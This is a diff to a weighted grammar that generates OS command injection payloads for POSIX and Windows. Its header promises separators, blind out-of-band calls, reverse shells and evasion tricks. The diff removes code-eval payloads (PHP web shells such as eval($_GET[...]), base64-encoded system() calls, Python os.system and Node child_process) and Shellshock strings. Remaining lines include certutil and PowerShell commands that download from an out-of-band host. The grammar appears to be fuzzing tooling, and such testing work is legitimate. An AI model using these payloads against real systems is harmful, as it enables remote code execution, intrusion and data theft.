@@ -1,12 +1,10 @@
 # OS command injection: separators, substitutions, blind (time, out-of-band),
 # reverse shells, and the shell-level evasions ($IFS, quotes, globbing,
-# brace expansion, encoded commands), for POSIX shells and Windows; code
-# injection, what an eval() of the value runs (PHP, Python, Node), which
-# ends in the same place; and Shellshock.
+# brace expansion, encoded commands), for POSIX shells and Windows.
 
 technique = [5] "chained" | [3] "substitution" | [2] "blind_time" | [2] "out_of_band" | [1] "reverse_shell"
 	| [2] "ifs_evasion" | [2] "quote_evasion" | [1] "glob_evasion" | [1] "encoded_command"
-	| [1] "brace_expansion" | [2] "windows" | [3] "code_eval" | [1] "shellshock" ;
+	| [1] "brace_expansion" | [2] "windows" ;
 place = [6] "param" | [3] "query" | [2] "body" | [1] "header" | [1] "cookie" ;
 target = [4] "host" | [3] "file" | [2] "text" | [1] "any" ;
 encode = [6] "none" | [4] "raw" | [3] "pct" | [1] "double" | [2] "mixed" | [1] "unicode"
@@ -73,40 +71,3 @@ windows = lead "&" win_cmd "&" | lead "|" win_cmd | lead "&&" win_cmd | lead "\r
 win_cmd = "type C:\\Windows\\win.ini" | "dir C:\\" | "whoami /all" | "ipconfig /all" | "net user"
 	| "ping -n " @int(5,30) " 127.0.0.1" | "certutil -urlcache -split -f http://" oob_host "/x.exe"
 	| "powershell -c \"iwr http://" oob_host "\"" | "set" | "systeminfo" | "tasklist" | "ver" ;
-
-# Code injection: break out of the string or statement the value lands in,
-# call what runs a command or proves execution, end so the rest parses.
-code_eval = [4] code_break php_call code_end | [2] lead sq "." php_call "." sq
-	| [1] "${@" php_call "}" | [1] "{${" php_call "}}" | [2] "<?php" ws php_call ";" ws? "?>"
-	| [1] "<?=" php_call "?>" | [1] "data:" ("" | "text/plain") ";base64," php_b64
-	| [2] code_break py_call code_end | [2] code_break node_call code_end ;
-code_break = [3] "" | lead "'" | lead "\"" | lead ";" | lead "';" | lead "\";" | lead "');"
-	| lead "\");" | lead "1;" | lead "'));" ;
-code_end = [3] "" | ";" | ";//" | ";#" | "//" | "#" | ";/*" | ";?>" ;
-sq = "'" | "\"" ;
-php_call = [3] php_exec "(" sq shell_cmd sq ")" | "phpinfo()" | "exit(md5(" sq @alnum sq "))"
-	| "die(md5(" sq @alnum sq "))" | "print(md5(" sq @alnum sq "))" | "var_dump(" @int "*" @int ")"
-	| "file_get_contents(" sq file sq ")" | "readfile(" sq file sq ")"
-	| "include(" sq "http://" oob_host "/" @word ".txt" sq ")"
-	| "eval(base64_decode(" sq b64php sq "))" | "eval($_" ("GET" | "POST" | "REQUEST") "[" sq @word sq "])"
-	| "assert($_" ("GET" | "POST") "[" sq @word sq "])" | "system($_GET[" @int "])"
-	| "`" shell_cmd "`" ;
-php_exec = "system" | "passthru" | "shell_exec" | "exec" | "popen" | "proc_open" | "pcntl_exec" ;
-shell_cmd = recon_cmd | read_cmd | "sleep " @int(2,20) | net_cmd ;
-b64php = "c3lzdGVtKCdpZCcpOw==" | "cGhwaW5mbygpOw==" | "ZWNobyBzaGVsbF9leGVjKCd3aG9hbWknKTs=" ;
-php_b64 = "PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==" | "PD9waHAgcGhwaW5mbygpOyA/Pg=="
-	| "PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg==" | "PD89YCRfR0VUWzBdYD8+" ;
-py_call = "__import__(" sq "os" sq ").system(" sq shell_cmd sq ")"
-	| "__import__(" sq "os" sq ").popen(" sq shell_cmd sq ").read()"
-	| "__import__(" sq "subprocess" sq ").check_output(" sq shell_cmd sq ",shell=True)"
-	| "__import__(" sq "time" sq ").sleep(" @int(2,20) ")"
-	| "exec(" sq "import os;os.system(\\" sq shell_cmd "\\" sq ")" sq ")" ;
-node_call = "require(" sq "child_process" sq ").execSync(" sq shell_cmd sq ")"
-	| "require(" sq "child_process" sq ").exec(" sq shell_cmd sq ")"
-	| "process.mainModule.require(" sq "child_process" sq ").execSync(" sq shell_cmd sq ").toString()"
-	| "require(" sq "fs" sq ").readFileSync(" sq file sq ")"
-	| "global.process.mainModule.constructor._load(" sq "child_process" sq ").exec(" sq shell_cmd sq ")" ;
-# Shellshock: a bash function definition in a value CGI puts into the
-# environment, and the command after it.
-shellshock = "() { :;}; " ("" | "echo; ") shell_cmd | "() { :; }; /bin/bash -c " sq shell_cmd sq
-	| "() { _; } >_[$($())] { " shell_cmd "; }" | "() { :;}; " "/bin/sleep " @int(2,20) ;
